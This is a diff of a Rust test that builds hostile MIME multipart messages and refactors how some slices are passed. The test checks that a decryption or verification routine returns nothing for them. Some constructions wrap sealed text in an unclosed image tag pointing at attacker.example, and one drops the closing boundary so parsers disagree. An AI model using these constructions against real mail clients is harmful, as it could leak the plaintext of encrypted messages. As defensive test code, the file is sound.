@@ -31,13 +31,13 @@ fn a_page_that_would_lead_the_text_away_gets_nothing() {
     let image = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/".to_owned();
     let end = "Content-Type: text/html\r\n\r\n\">".to_owned();
     let inner = text(&sealed());
-    let nested = around("alternative", &[inner.clone()])
+    let nested = around("alternative", std::slice::from_ref(&inner))
         .replace("b\"", "c\"")
         .replace("--b", "--c");
     for attack in [
         around("mixed", &[image.clone(), inner.clone(), end.clone()]),
         around("related", &[inner.clone(), end.clone()]),
-        around("mixed", &[inner.clone()]),
+        around("mixed", std::slice::from_ref(&inner)),
         around("mixed", &[image.clone(), nested]),
         // the closing delimiter is missing, so that two readers see different parts
         around("mixed", &[image, inner.clone()]).replace("--b--", ""),
